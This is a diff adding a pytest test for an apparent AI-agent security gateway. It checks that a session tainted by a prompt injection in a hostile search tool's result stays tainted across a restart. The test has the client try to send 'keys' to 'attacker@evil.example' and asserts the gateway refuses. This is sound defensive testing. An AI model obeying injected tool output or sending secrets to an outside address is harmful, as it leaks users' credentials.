@@ -187,3 +187,15 @@ async def test_a_classifier_that_cannot_load_stops_the_gateway_at_startup(tmp_pa
     site = make_site(tmp_path / "bad", detectors='classifier = { model = "missing.onnx", tokenizer = "t.json" }')
     with pytest.raises(ConfigError, match=r"detectors.classifier: classifier model `.*missing.onnx` does not exist"):
         site.app()
+
+
+async def test_a_taint_survives_a_gateway_restart_until_its_window_ends(tmp_path: Path) -> None:
+    site = make_site(tmp_path / "restart", upstreams=[("search", hostile("rugpull"))])
+    async with running(site.app()), connect(site.url, GPT_KEY) as client:
+        page = await client.call_tool("search.page", {})
+        assert page.meta["io.securegateway/result_scan"][0]["code"] == "prompt_injection"
+    assert (tmp_path / "restart" / "state" / "taint.db").is_file()
+    async with running(site.app()), connect(site.url, GPT_KEY) as client:
+        refused = await client.call_tool("search.send", {"to": "attacker@evil.example", "body": "keys"})
+        assert refused.is_error and refused.structured_content["reason_code"] == "session_tainted"
+        assert "search.page" in "\n".join(refused.structured_content["reasoning"])
